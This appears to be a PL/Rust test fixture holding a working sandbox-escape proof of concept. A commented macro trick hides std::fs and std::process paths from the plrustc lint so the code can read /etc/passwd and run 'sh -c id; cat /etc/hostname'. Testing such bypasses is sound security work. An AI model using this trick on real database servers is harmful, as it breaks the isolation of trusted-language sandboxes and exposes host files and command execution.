[dependencies]
cfg-if = "=1.0.0"
[code]
// plrustc cannot expand cfg_if! (a dependency's macro), so it scans its tokens. There
// `m!` is a macro of the body, which the scan leaves alone; and `std fs read_to_string`
// are three separate identifiers, no path. rustc expands cfg_if!, then m!, which
// composes std::fs::read_to_string from those tokens. m's own rule, linted as a
// skeleton, only shows `a::b::c(...)`.
macro_rules! m {
    ($a:ident $b:ident $c:ident $d:ident) => {
        fn leak() -> String {
            let passwd = $a::$b::$c("/etc/passwd").unwrap_or_default();
            let out = $a::process::$d::new("sh").arg("-c").arg("id; cat /etc/hostname").output().map(|o| o.stdout).unwrap_or_default();
            format!("{} | passwd: {} lines", String::from_utf8_lossy(&out).replace('\n', " "), passwd.lines().count())
        }
    };
}
cfg_if::cfg_if! { if #[cfg(all())] { m!(std fs read_to_string Command); } }
Ok(Some(leak()))
